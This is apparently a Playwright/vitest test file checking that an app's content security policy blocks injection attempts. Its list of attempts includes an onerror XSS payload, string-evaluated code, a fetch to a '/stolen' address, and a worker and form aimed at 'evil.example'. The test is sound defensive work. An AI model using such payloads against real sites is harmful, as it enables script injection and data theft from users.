import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type TestApp, launchApp } from '../support/browser.ts';

/** What a hostile label would try, run as if it had got into the page. The browser must refuse all of it. */
const ATTEMPTS: readonly (readonly [what: string, attempt: (page: Page) => Promise<unknown>])[] = [
  [
    'markup set as HTML',
    (page) => page.evaluate(() => (document.body.innerHTML = '<img src=x onerror=window.isHit=1>')),
  ],
  ['a script element without the nonce', (page) => page.evaluate(runScriptElement)],
  ['text run as code', (page) => page.evaluate('setTimeout("window.isHit = 1")')],
  ['a request to another host', (page) => page.evaluate(() => fetch('http://127.0.0.1:9/stolen', { mode: 'no-cors' }))],
  ['a worker from elsewhere', (page) => page.evaluate(startWorker)],
  ['a form sent elsewhere', (page) => page.evaluate(sendForm)],
];

let home: string;
let app: TestApp;

function runScriptElement(): void {
  const script = document.createElement('script');
  script.text = 'window.isHit = 1';
  document.body.append(script);
}

function startWorker(): void {
  new Worker('https://evil.example/w.js').terminate();
}

function sendForm(): void {
  const form = document.createElement('form');
  form.action = 'https://evil.example/';
  document.body.append(form);
  form.submit();
}

beforeAll(async () => {
  home = mkdtempSync(join(tmpdir(), 'chirograph-test-'));
  app = await launchApp({ home, name: 'page-policy' });
  await app.page.getByRole('button', { name: /sample case/i }).waitFor();
});
afterAll(async () => {
  await app.close({ hasFailed: false });
  rmSync(home, { recursive: true, force: true });
});

test.each(ATTEMPTS)('the page refuses %s', async (_, attempt) => {
  const before = app.problems.length;
  await attempt(app.page).catch(() => undefined);
  await expect.poll(() => app.problems.length).toBeGreaterThan(before);
  expect(await app.page.evaluate(() => 'isHit' in window)).toBe(false);
  expect(app.page.url()).toBe(`${app.origin}/`);
});
